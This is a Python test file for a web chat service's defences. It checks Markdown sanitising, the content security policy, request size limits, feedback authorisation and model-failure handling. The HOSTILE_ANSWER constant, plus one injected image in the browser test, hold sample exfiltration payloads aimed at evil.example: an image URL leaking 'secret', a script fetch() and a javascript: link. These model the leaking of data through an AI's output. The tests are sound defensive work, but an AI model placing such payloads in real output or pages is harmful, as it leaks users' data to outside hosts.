"""The public chat under attack, from the outside (a real `folio serve`, socket.io, HTTP, Chromium):
hostile Markdown from the model never reaches the browser as images, HTML or outside links (streamed or
final), the page asks nothing of any other host, every /chat body and socket.io message is size-limited,
feedback needs a kept thread of one's own, a model that never answers and a broken one give the standard
messages (never an exception's text)."""

import asyncio
import re
import time
import uuid
from urllib.parse import urlparse

import httpx
import pytest
from testkit.browser import ASSISTANT, ask, browser_page, open_chat, screenshot
from testkit.chat_client import ChatClient, guest_cookies, owner_cookies
from testkit.live import OWNER_EMAIL, OWNER_PASSWORD, LiveServer
from testkit.scripted_llm import Reply, ScriptedLLM, query, reply

from folio import prompts

LLM_TIMEOUT = 3
MAX_BODY = 16_384
EMBEDDER = "https://embed.example"
HOSTILE_ANSWER = (
    "Here is a chart ![chart](http://evil.example/leak.png?d=secret) and <img src=\"http://evil.example/i.png\"> "
    "<script>fetch('http://evil.example/s')</script> [click](javascript:alert(1)) "
    "[more](https://evil.example/more) and www.evil.example/w [ref]: http://evil.example/r "
    "but [Ferrox](/api/v1/projects/ferrox) is fine."
)


@pytest.fixture(scope="module")
def model():
    with ScriptedLLM() as llm:
        yield llm


@pytest.fixture(scope="module")
def server(pg, demo_template, model):
    name = pg.create(template=demo_template)
    live = LiveServer(pg.libpq_url(name), model.base_url, llm_timeout=str(LLM_TIMEOUT),
                      chat_max_body_bytes=str(MAX_BODY), allowed_origins=EMBEDDER).start()
    yield live
    live.stop()
    pg.drop(name)


@pytest.fixture
def llm(model):
    model.reset()
    yield model
    model.reset()


def outside_markup(text: str) -> list[str]:
    """Images, raw HTML, links that are not the app's own pages, and bare outside URLs."""
    found = re.findall(r"!\[[^\]]*\]\(|<(?:img|script|a)\b|\]\((?!/[^/\\])[^)]*\)|https?://evil|www\.evil", text)
    return found + (["definition"] if "]:" in text else [])


# The model writes only when it phrases an answer in another language: that text is checked and sanitised.
HOSTILE_TURN = (query(intent="describe", items=["project:ferrox"], language="es"), reply(HOSTILE_ANSWER))


async def test_hostile_markdown_is_inert_in_the_stream_and_the_answer(server, llm):
    llm.script(*HOSTILE_TURN)
    async with await ChatClient.visitor(server.url) as chat:
        await chat.started()
        events = await chat.ask("¿Qué es Ferrox?")
    streamed, answer = "".join(ChatClient.tokens(events)), ChatClient.answer(events)
    assert ChatClient.tokens(events)
    for text in (streamed, answer):
        assert outside_markup(text) == [], text
    assert "evil" not in streamed and "evil" not in answer  # sentences with outside links never shown
    assert "[Ferrox](/p/project/ferrox)" in answer  # the answer cites the readable page


@pytest.mark.browser
def test_the_page_requests_nothing_outside_the_app_and_links_nowhere_else(server, llm):
    llm.script(*HOSTILE_TURN)
    origin = urlparse(server.url).netloc
    requested: list[str] = []
    with browser_page() as page:
        page.on("request", lambda request: requested.append(request.url))
        open_chat(page, server.url)
        answer = ask(page, "¿Qué es Ferrox?")
        page.wait_for_timeout(500)  # anything the answer would load
        screenshot(page, "chat-hostile-markdown")
        targets = page.evaluate("""() => Array.from(document.querySelectorAll('*')).flatMap(e =>
            ['src', 'href', 'srcset', 'poster', 'action'].filter(a => e.hasAttribute(a))
              .map(a => new URL(e.getAttribute(a), location.href).href))""")
        assert page.locator(f"{ASSISTANT} img[src*='evil']").count() == 0
        assert page.locator(f"{ASSISTANT} a[href$='/p/project/ferrox']").count() == 1
        seen_before_probe = list(requested)  # (Chromium reports even a request the policy blocks)
        # Behind the filter, the policy: an outside image put into the page by any other way is refused.
        violated = page.evaluate("""() => new Promise(resolve => {
            document.addEventListener('securitypolicyviolation', e => resolve(e.effectiveDirective), {once: true});
            const img = new Image(); img.src = 'http://evil.example/csp.png'; document.body.appendChild(img);
            setTimeout(() => resolve(null), 5000);
        })""")
        assert violated == "img-src"
    assert "Ferrox" in answer and "<script" not in answer  # the checked answer: the item, no markup
    # The only links out are the owner's own data (the item's repository and site), never the model's.
    ferrox = httpx.get(f"{server.url}/api/v1/projects/ferrox", timeout=30).json()
    owners = {u for u in (ferrox["repo_url"], ferrox["live_url"]) if u}
    outside = [u for u in seen_before_probe + targets
               if urlparse(u).scheme not in ("data", "blob") and urlparse(u).netloc != origin and u not in owners]
    assert seen_before_probe and targets and outside == []
    assert not any(u in owners for u in seen_before_probe)  # linked, never loaded


async def test_chat_pages_carry_a_content_security_policy(server):
    async with httpx.AsyncClient(base_url=server.url) as http:
        page = await http.get("/chat/")
        api = await http.get("/chat/project/translations", params={"language": "en-US"})
    csp = page.headers["content-security-policy"]
    assert "img-src 'self' data:" in csp and "object-src 'none'" in csp
    assert f"frame-ancestors 'self' {EMBEDDER}" in csp
    assert re.search(r"script-src 'self'( 'sha256-[A-Za-z0-9+/=]+')+;", csp)  # Chainlit's inline scripts only
    assert "unsafe-inline" not in csp.split("script-src")[1].split(";")[0]
    assert "fonts.googleapis.com" not in page.text and "cdn.jsdelivr.net" not in page.text
    assert int(page.headers["content-length"]) == len(page.content)
    for response in (page, api):
        assert response.headers["x-content-type-options"] == "nosniff"
        assert "content-security-policy" in response.headers
    async with httpx.AsyncClient(base_url=server.url, cookies=await guest_cookies(server.url)) as guest:
        visitor = (await guest.get("/chat/project/settings", params={"language": "en-US"})).json()
    features = visitor["features"]
    assert features["unsafe_allow_html"] is False and features["spontaneous_file_upload"]["enabled"] is False
    assert visitor["dataPersistence"] is False  # no thread list, no thumbs: a visitor's chat is not kept
    async with httpx.AsyncClient(base_url=server.url,
                                 cookies=await owner_cookies(server.url, OWNER_EMAIL, OWNER_PASSWORD)) as owner:
        assert (await owner.get("/chat/project/settings", params={"language": "en-US"})).json()["dataPersistence"]


async def test_every_chat_body_is_size_limited(server):
    async with httpx.AsyncClient(base_url=server.url) as http:
        login = await http.post("/chat/login", data={"username": "a@example.com", "password": "x" * MAX_BODY})
        assert login.status_code == 413

        async def chunks():
            for _ in range(40):
                yield b"x" * 1024

        chunked = await http.put("/chat/feedback", content=chunks(), headers={"content-type": "application/json"})
        assert chunked.status_code == 413
        polling = await http.post("/chat/ws/socket.io/", params={"EIO": "4", "transport": "polling"},
                                  content=b"4" * (MAX_BODY + 1))
        assert polling.status_code == 413


async def test_an_oversized_socket_message_closes_only_that_connection(server, llm):
    async with await ChatClient.visitor(server.url) as chat:
        await chat.started()
        await chat.sio.emit("client_message", {"message": {
            "id": str(uuid.uuid4()), "name": "User", "type": "user_message", "output": "x" * (MAX_BODY * 2),
            "createdAt": "2026-01-01T00:00:00Z"}, "fileReferences": []})
        for _ in range(100):
            if not chat.sio.connected:
                break
            await asyncio.sleep(0.1)
        assert not chat.sio.connected
    assert not llm.requests  # never reached the model
    llm.script(query(intent="describe", items=["project:glint"]))
    async with await ChatClient.visitor(server.url) as chat:
        await chat.started()
        assert ChatClient.answer(await chat.ask("Tell me about Glint")).startswith("Glint (project)")


async def test_feedback_needs_a_kept_thread_of_ones_own(server):
    body = {"sessionId": str(uuid.uuid4()),
            "feedback": {"forId": str(uuid.uuid4()), "threadId": str(uuid.uuid4()), "value": 1}}
    async with httpx.AsyncClient(base_url=server.url) as anonymous:
        assert (await anonymous.put("/chat/feedback", json=body)).status_code == 401
    async with httpx.AsyncClient(base_url=server.url, cookies=await guest_cookies(server.url)) as visitor:
        refused = await visitor.put("/chat/feedback", json=body)
        assert refused.status_code == 404 and "conversation" in refused.json()["detail"]
        body["feedback"]["comment"] = "x" * 5000
        too_long = await visitor.put("/chat/feedback", json=body)
        assert too_long.status_code == 422 and "at most" in too_long.json()["detail"]
        not_json = await visitor.put("/chat/feedback", content=b"{", headers={"content-type": "application/json"})
        assert not_json.status_code == 400
        deleted = await visitor.request("DELETE", "/chat/feedback", json={"feedbackId": str(uuid.uuid4())})
        assert deleted.status_code == 404


async def test_a_model_that_never_answers_gets_a_clear_message_within_the_timeout(server, llm):
    llm.script(Reply(content="too late", delay=LLM_TIMEOUT * 10))
    async with await ChatClient.visitor(server.url) as chat:
        await chat.started()
        started = time.monotonic()
        events = await chat.ask("Tell me about Ferrox", timeout=LLM_TIMEOUT * 8)
        waited = time.monotonic() - started
    # A visitor is never left with only an apology: the question is read by search, answered from the data.
    answer = ChatClient.answer(events)
    assert "Ferrox" in answer and "too late" not in answer, answer
    assert waited < LLM_TIMEOUT * 5  # the model would have answered after 10x the timeout


async def test_a_broken_model_shows_the_standard_message_never_the_exception(server, llm):
    llm.script(Reply(raw=b"data: {this is not json\n\n"))
    async with await ChatClient.visitor(server.url) as chat:
        await chat.started()
        events = await chat.ask("Tell me about Ferrox")
    shown = [data.get("output", "") for event, data in events if event in ("new_message", "update_message")]
    answer = ChatClient.answer(events)
    assert "Ferrox" in answer, answer  # the matched items, not an apology and not the exception
    assert not any("json" in text.lower() or "Expecting" in text or "Traceback" in text for text in shown)
    assert "Traceback" in server.log() or "failed" in server.log()  # logged for the operator
